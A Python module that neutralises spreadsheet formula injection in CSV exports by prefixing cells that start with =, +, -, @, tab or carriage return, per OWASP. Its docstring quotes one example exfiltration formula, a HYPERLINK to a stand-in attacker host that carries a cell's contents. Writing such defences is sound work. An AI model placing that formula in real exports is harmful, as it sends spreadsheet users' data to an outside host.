"""CSV that a spreadsheet opens as text: cells it would run as a formula are neutralised.

A prompt, an answer or a run name is data; written to CSV unchanged, a cell such as
`=HYPERLINK("http://attacker.example/?d="&A1,"open")` becomes a live formula when the file is
opened in Excel, LibreOffice or Google Sheets (CSV or formula injection). Following OWASP's rule,
every text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`,
which spreadsheets read as "this is text" and do not show. Numbers are written as they are. The
CSV of `jib export` and of `jib compare` both go through `CsvWriter`; `escape_formulas=False`
(the CLI's `--raw-csv`) writes every cell exactly as stored.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

__all__ = ["FORMULA_STARTS", "CsvWriter", "neutralised"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a text cell may not start with unless neutralised (OWASP's list)."""


def neutralised(cell: Any) -> Any:
    """`cell` with a leading `'` when it is text a spreadsheet would read as a formula.

    >>> neutralised('=HYPERLINK("http://x/","open")'), neutralised("-1"), neutralised(-1)
    ('\\'=HYPERLINK("http://x/","open")', "'-1", -1)
    """
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


class CsvWriter:
    """`csv.writer` whose cells are `neutralised` (unless `escape_formulas=False`)."""

    def __init__(self, handle: IO[str], *, escape_formulas: bool = True) -> None:
        self._writer = csv.writer(handle)
        self._escape = escape_formulas

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row (the header too: it may hold data, such as generator identifiers)."""
        self._writer.writerow([neutralised(cell) for cell in row] if self._escape else row)
